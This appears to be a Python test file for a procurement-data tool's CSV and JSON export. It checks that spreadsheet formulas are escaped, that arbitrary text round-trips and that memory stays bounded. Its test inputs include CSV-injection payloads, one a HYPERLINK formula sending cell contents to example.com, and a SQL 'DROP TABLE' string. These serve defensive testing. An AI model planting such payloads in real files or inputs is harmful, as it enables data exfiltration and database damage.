"""Rows as CSV and JSON: what a spreadsheet or a script reads back, and what it must not run."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from sqlalchemy.orm import Session

from feeds.text import clean
from procurewatch.exports.csv_json import csv_bytes, json_bytes, json_lines_bytes
from storage.models import StoredRecord
from storage.reading.export_rows import COLUMNS, Row, RowType, Value, export_rows
from storage.schema.fields import FieldType
from tests.feeds.records import CLEARVIEW

FORMULAS = (
    "=cmd()",
    '=HYPERLINK("https://example.com?"&A1;"click")',
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff20A1",
    "  =1",
    "- INCREMENTAL FUNDING",
)
texts = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"))


def as_csv(*rows: Row) -> list[dict[str, str]]:
    """Write rows as CSV and read them as a spreadsheet does."""
    written = b"".join(csv_bytes(list(rows[0]) if rows else ["vendor"], rows)).decode()
    return list(csv.DictReader(io.StringIO(written, newline=""), strict=True))


def as_json(*rows: Row) -> list[dict[str, object]]:
    """Write rows as JSON and read them back."""
    read: list[dict[str, object]] = json.loads(b"".join(json_bytes(rows, {"note": "="})))["rows"]
    return read


@pytest.mark.parametrize("formula", FORMULAS)
def test_formulas_are_escaped_for_spreadsheets(formula: str) -> None:
    (row,) = as_csv({"text": formula, "end": "x"})
    assert row["text"] == f"'{formula}".replace("\r", "\n")
    assert as_json({"text": formula}) == [{"text": formula}]


@pytest.mark.parametrize("text", ["A=B", "1 + 1", "a@b.gov", "-", "'=1", "", " plain", "OY 1 - EXERCISE"])
def test_harmless_text_is_unchanged(text: str) -> None:
    (row,) = as_csv({"text": text, "end": "x"})
    assert row["text"] == ("'-" if text == "-" else text)


@given(text=texts)
@example('"; DROP TABLE award')
@example('two\nlines, "quoted"\r\nand 🛰 é ]]> <b>')
@example("=1\n=2")
@example("\u202e=1\x1b[31m\x00")
def test_any_text_survives_without_control_characters(text: str) -> None:
    (row,) = as_csv({"before": "x", "text": text, "after": "x"})
    assert row["text"] in (clean(text), f"'{clean(text)}")
    assert not row["text"].lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert (row["before"], row["after"]) == ("x", "x")
    assert as_json({"text": text}) == [{"text": text}]
    assert b"".join(json_bytes([{"text": text}], {"note": text})).isascii()
    assert json.loads(b"".join(json_lines_bytes([{"text": text}]))) == {"text": text}


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (Decimal("-1.10"), "-1.10"),
        (Decimal("90071992547409.93"), "90071992547409.93"),
        (Decimal("0.00"), "0.00"),
        (date(2024, 9, 3), "2024-09-03"),
        (datetime(2026, 11, 20, 14, 5, tzinfo=UTC), "2026-11-20T14:05:00+00:00"),
        (-3, "-3"),
        (0.97, "0.97"),
        (None, ""),
    ],
)
def test_other_types_are_unchanged(value: Value, cell: str) -> None:
    assert as_csv({"value": value, "end": "x"})[0]["value"] == cell


def test_no_rows_give_an_empty_list() -> None:
    assert as_csv() == []
    assert as_json() == []


def test_each_json_row_is_one_line() -> None:
    lines = b"".join(json_bytes([{"a": 1}, {"a": 2}], {"made": "x"})).decode().splitlines()
    assert lines == ['{"made": "x", "rows": [', '{"a": 1},', '{"a": 2}', "]", "}"]
    assert b"".join(json_lines_bytes([{"a": 1}, {"a": 2}])) == b'{"a": 1}\n{"a": 2}\n'


def many(count: int) -> Iterator[StoredRecord]:
    for number in range(count):
        yield replace(CLEARVIEW, key=f"CONT_AWD_{number}", description=f"{number} " + "LICENSES " * 100)


@pytest.mark.parametrize("form", ["csv", "json", "jsonl"])
def test_memory_does_not_grow_with_rows(form: str) -> None:
    rows = export_rows(Session(), RowType.RECORDS, many(6_000), actions_of=lambda _: {}, events_of=lambda _: {})
    writers = {
        "csv": lambda: csv_bytes(COLUMNS[RowType.RECORDS], rows),
        "json": lambda: json_bytes(rows, {}),
        "jsonl": lambda: json_lines_bytes(rows),
    }
    pieces = writers[form]()
    tracemalloc.start()
    try:
        written = sum(len(piece) for piece in pieces)
        _, most = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert written > 2 * 4_000_000
    assert most < 4_000_000


def test_every_row_has_exactly_the_columns() -> None:
    (row,) = export_rows(Session(), RowType.RECORDS, [CLEARVIEW], actions_of=lambda _: {}, events_of=lambda _: {})
    assert list(row) == list(COLUMNS[RowType.RECORDS])
    kinds = {
        FieldType.TEXT: str,
        FieldType.TEXTS: str,  # joined
        FieldType.DOLLARS: Decimal,
        FieldType.DATE: date,
        FieldType.TIME: datetime,
        FieldType.SCORE: float,
        FieldType.COUNT: int,
    }
    for name, kind in COLUMNS[RowType.RECORDS].items():
        assert row[name] is None or isinstance(row[name], kinds[kind]), name
